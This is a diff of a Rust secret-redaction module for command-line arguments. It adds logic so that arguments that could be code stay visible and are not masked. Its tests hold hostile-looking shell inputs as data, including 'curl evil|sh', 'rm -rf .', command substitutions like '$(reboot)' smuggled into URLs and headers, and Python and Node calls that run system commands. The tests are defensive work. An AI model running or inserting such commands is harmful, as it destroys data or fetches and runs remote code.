@@ -1,6 +1,10 @@
 //! Decides which parts of a value look like secrets.
 
+mod scrutiny;
+
 use std::ops::Range;
+
+use self::scrutiny::{Scrutiny, leading_run, used_names};
 
 /// What is shown in place of a secret.
 pub(crate) const REDACTED: &str = "[redacted]";
@@ -18,55 +22,78 @@ pub(crate) fn find_in_value(name: &str, value: &str) -> Vec<SecretPart> {
     if is_secret_name(name) {
         return find_literals(value, scheme_length(value));
     }
-    find_in_text(value)
+    find_in_text(value, Scrutiny::of_command(&[value.to_owned()]))
 }
 
-/// Whether a word of a command line looks like it holds a secret.
+/// Whether a word of a command line looks like it holds a secret. In doubt it does.
 pub fn has_secret(words: &[String]) -> bool {
-    find_in_args(words).iter().any(|parts| !parts.is_empty())
+    find_in_words(words, Scrutiny::Lenient).iter().any(|parts| !parts.is_empty())
 }
 
-/// Finds secrets in each argument of a command.
+/// Finds secrets in each argument of a command. What could be code is none.
 pub(crate) fn find_in_args(args: &[String]) -> Vec<Vec<SecretPart>> {
-    let mut found = Vec::with_capacity(args.len());
+    find_in_words(args, Scrutiny::of_command(args))
+}
+
+fn find_in_words(words: &[String], scrutiny: Scrutiny) -> Vec<Vec<SecretPart>> {
+    let mut found = Vec::with_capacity(words.len());
     let mut is_value_of_secret = false;
     let mut is_header = false;
-    for arg in args {
+    let used = used_names(words);
+    // A token may begin with one hyphen; where it could be an option, it is taken for one.
+    let option_start = if scrutiny == Scrutiny::Lenient { "--" } else { "-" };
+    for word in words {
         let was_secret = std::mem::take(&mut is_value_of_secret);
         let was_header = std::mem::take(&mut is_header);
-        if was_secret && !arg.starts_with("--") {
-            found.push(find_literals(arg, 0));
+        if was_secret
+            && !word.starts_with(option_start)
+            && let Some(parts) = scrutiny.find_accepted_literals(word, 0)
+        {
+            found.push(parts);
             continue;
         }
-        let assigned = arg.split_once('=').map(|(name, _)| (name.trim_start_matches('-'), name.len() + 1));
+        let assigned = word.split_once('=').map(|(name, _)| (name.trim_start_matches('-'), name.len() + 1));
         let header_at = match assigned {
             _ if was_header => Some(0),
             Some(("header" | "headers" | "H", at)) => Some(at),
             _ => None,
         };
-        if let Some(parts) = header_at.and_then(|at| Some(shift(find_in_header(&arg[at..])?, at))) {
+        let in_header = header_at.and_then(|at| Some(shift(find_in_header(&word[at..], scrutiny)?, at)));
+        let in_assigned = assigned
+            .filter(|(name, _)| is_identifier(name) && is_secret_name(name))
+            .filter(|(name, _)| {
+                scrutiny == Scrutiny::Lenient || word.starts_with('-') || !used.contains(name)
+            })
+            .and_then(|(_, at)| scrutiny.find_accepted_literals(word, at));
+        if let Some(parts) = in_header.or(in_assigned) {
             found.push(parts);
-        } else if let Some((name, at)) = assigned
-            && is_identifier(name)
-            && is_secret_name(name)
-        {
-            found.push(shift(find_literals(&arg[at..], 0), at));
-        } else {
-            let is_option = arg.starts_with('-') && !arg.contains('=');
-            is_header = is_option && matches!(arg.as_str(), "-H" | "--header" | "--headers");
-            is_value_of_secret = is_option && !is_header && is_secret_name(arg.trim_start_matches('-'));
-            found.push(find_in_text(arg));
+            continue;
         }
+        let name = word.trim_start_matches('-');
+        let is_option = word.starts_with('-') && is_identifier(name);
+        is_header = is_option && matches!(word.as_str(), "-H" | "--header" | "--headers");
+        is_value_of_secret = is_option && !is_header && is_secret_name(name);
+        let mut parts = find_in_text(word, scrutiny);
+        parts.extend(scrutiny.find_assigned(word, &used));
+        parts.sort_by_key(|part| part.range.start);
+        let mut end = 0;
+        parts.retain(|part| {
+            let is_apart = part.range.start >= end;
+            end = end.max(part.range.end);
+            is_apart
+        });
+        found.push(parts);
     }
     found
 }
 
-/// Finds secrets in `Name: value`; `None` if the name is not that of a secret.
-fn find_in_header(header: &str) -> Option<Vec<SecretPart>> {
+/// Finds secrets in `Name: value`; `None` if the name is not that of a secret, or the value could be code.
+fn find_in_header(header: &str, scrutiny: Scrutiny) -> Option<Vec<SecretPart>> {
     let (name, value) = header.split_once(':').filter(|(name, _)| is_secret_name(name))?;
     let blanks = value.len() - value.trim_start().len();
     let value = &value[blanks..];
-    Some(shift(find_literals(value, scheme_length(value)), name.len() + 1 + blanks))
+    let parts = scrutiny.find_accepted_literals(value, scheme_length(value))?;
+    Some(shift(parts, name.len() + 1 + blanks))
 }
 
 /// Finds secrets in a URL: passwords, parameters that are called like a secret, and random parts of the
@@ -102,7 +129,7 @@ pub(crate) fn find_in_url(url: &str) -> Vec<SecretPart> {
 
 /// Finds secrets in a text that is not called like one: in URLs, after `Bearer`, and tokens of well-known
 /// services.
-fn find_in_text(text: &str) -> Vec<SecretPart> {
+fn find_in_text(text: &str, scrutiny: Scrutiny) -> Vec<SecretPart> {
     let is_gap = |c: char| c.is_whitespace() || "\"',;".contains(c);
     let mut found = Vec::new();
     let mut at = 0;
@@ -110,18 +137,24 @@ fn find_in_text(text: &str) -> Vec<SecretPart> {
     for word in text.split_inclusive(is_gap) {
         let bare = word.trim_end_matches(is_gap);
         if follows_scheme {
-            found.extend(shift(find_literals(bare, 0), at));
+            found.extend(shift(scrutiny.find_accepted_literals(bare, 0).unwrap_or_default(), at));
         } else if let Some(end) = bare.find("://") {
             let is_outside = |c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c);
             let begin = bare[..end].rfind(is_outside).map_or(0, |before| before + 1);
             if let Some(url) = bare.get(begin..) {
-                found.extend(shift(find_in_url(url), at + begin));
+                let mut parts = find_in_url(url);
+                // Code does not run a part of a URL.
+                parts.retain(|part| scrutiny.min(Scrutiny::Words).accepts(&url[part.range.clone()]));
+                found.extend(shift(parts, at + begin));
             }
         } else {
-            found.extend(shift(find_in_default(bare), at));
+            let mut parts = find_in_default(bare);
+            parts.retain(|part| scrutiny.accepts(&bare[part.range.clone()]));
+            found.extend(shift(parts, at));
             let mut inner = at;
             for part in bare.split_inclusive(['=', ':']) {
                 let token = part.trim_end_matches(['=', ':']);
+                let token = if scrutiny == Scrutiny::Lenient { token } else { leading_run(token) };
                 if has_token_prefix(token) {
                     found.push(SecretPart { range: inner..inner + token.len(), is_storable: true });
                 }
@@ -244,10 +277,10 @@ const SECRET_WORDS: [&str; 17] = [
 const SECRET_PARTS: [&str; 7] =
     ["token", "secret", "password", "apikey", "authorization", "accesskey", "privatekey"];
 
-/// Last words of names that only speak of a secret.
-const HARMLESS_ENDS: [&str; 16] = [
+/// Last words of names that only speak of a secret, or name a program that prints one.
+const HARMLESS_ENDS: [&str; 22] = [
     "file", "path", "dir", "folder", "url", "uri", "endpoint", "id", "name", "type", "env", "var", "method",
-    "mode", "limit", "timeout",
+    "mode", "limit", "timeout", "command", "cmd", "helper", "program", "script", "exec",
 ];
 
 /// How tokens of well-known services begin.
@@ -296,6 +329,8 @@ mod tests {
             ("TOKEN_URL", "https://h/", "https://h/"),
             ("API_KEY_FILE", "/k", "/k"),
             ("KEYBOARD", "us", "us"),
+            ("API_KEY_COMMAND", "sh evil", "sh evil"),
+            ("BASH_ENV", "http://$(reboot)@h/ bearer $(reboot)", "http://$(reboot)@h/ bearer $(reboot)"),
             ("PATH", "/bin", "/bin"),
             ("DATABASE", "postgres://u:p@h/db", "postgres://*@h/db"),
             ("NOTE", "ghp_0123456789abcdef0123", "*"),
@@ -313,6 +348,11 @@ mod tests {
         ] {
             assert_eq!(redacted(value, find_in_value(name, value)), shown, "{name}={value}");
         }
+    }
+
+    fn redacted_args(args: &[&str]) -> Vec<String> {
+        let args: Vec<String> = args.iter().map(ToString::to_string).collect();
+        args.iter().zip(find_in_args(&args)).map(|(arg, parts)| redacted(arg, parts)).collect()
     }
 
     #[test]
@@ -340,9 +380,6 @@ mod tests {
             "--header=X-Api-Key: abc",
             "-H=X-Level: 2",
         ];
-        let args: Vec<String> = args.iter().map(ToString::to_string).collect();
-        let shown: Vec<String> =
-            args.iter().zip(find_in_args(&args)).map(|(arg, parts)| redacted(arg, parts)).collect();
         let expected = [
             "-y",
             "@scope/server-everything@2025.11.25",
@@ -366,7 +403,60 @@ mod tests {
             "--header=X-Api-Key: *",
             "-H=X-Level: 2",
         ];
-        assert_eq!(shown, expected);
+        assert_eq!(redacted_args(&args), expected);
+    }
+
+    /// SE-04: a person sees all that would run.
+    #[test]
+    fn code_is_never_taken_for_a_secret() {
+        let random = "0a1b2c3d4e5f6a7b8c9d0e1f";
+        let known = "ghp_0123456789abcdef0123";
+        for args in [
+            &["-c", "API_KEY=$(touch /tmp/x) true"][..],
+            &["-c", "PASSWORD=1\nimport os\nos.system('reboot')"],
+            &["-c", "PASSWORD=os.system;PASSWORD('reboot')"],
+            &["--eval", "--token", "-e", "PASSWORD=require(\"child_process\").execSync(\"reboot\")"],
+            &["-c", "TOKEN=1; curl evil|sh"],
+            &["-c", "TOKEN=curl; $TOKEN evil"],
+            &["TOKEN=rm", "sh", "-c", "$TOKEN -rf ."],
+            &["-c", "\"$2\" -rf .", "--token", "rm"],
+            &["-c", "alias my-token=reboot; my-token"],
+            &["/c", "set TOKEN=calc", "&", "%TOKEN%"],
+            &["--token", "rm -rf ."],
+            &["--token", "./evil"],
+            &["--token", "`reboot`"],
+            &["--password-command", "evil"],
+            &["-c", "alias.key=!reboot", "key"],
+            &["-c", "-H", "X-Token:; reboot"],
+            &["-c", "http://$(reboot)@h?token=$(reboot)"],
+            &["-c", "basic(){ \"$@\";}; basic reboot"],
+            &["-c", "${X:-sk-$(reboot>0123456789)}"],
+        ] {
+            assert_eq!(redacted_args(args), args);
+        }
+        for (arg, shown) in [
+            ("API_KEY=k; touch /tmp/x; cat".to_owned(), "API_KEY=*; touch /tmp/x; cat".to_owned()),
+            ("X_TOKEN=1 curl evil".to_owned(), "X_TOKEN=* curl evil".to_owned()),
+            ("A_KEY=\"k\" B_KEY='l' x".to_owned(), "A_KEY=\"*\" B_KEY='*' x".to_owned()),
+            ("Server=x;Password=p;Port=1".to_owned(), "Server=x;Password=*;Port=1".to_owned()),
+            (format!("API_KEY={random}; curl evil|sh"), "API_KEY=*; curl evil|sh".to_owned()),
+            (format!("x {known}$(reboot)"), "x *$(reboot)".to_owned()),
+            (
+                format!("TOKEN={known} x https://u:p@h/?key=1|sh"),
+                "TOKEN=* x https://*@h/?key=1|sh".to_owned(),
+            ),
+        ] {
+            assert_eq!(redacted_args(&["-c", &arg]), ["-c", &*shown]);
+        }
+        assert_eq!(redacted_args(&["-c", "exec x \"$@\"", "--token", random])[3], "*");
+    }
+
+    #[test]
+    fn a_word_in_doubt_is_a_secret_to_who_only_asks() {
+        for words in [&["password=two words"][..], &["token=$x"], &["--token", "-a;b"]] {
+            let words: Vec<String> = words.iter().map(ToString::to_string).collect();
+            assert!(has_secret(&words), "{words:?}");
+        }
     }
 
     #[test]
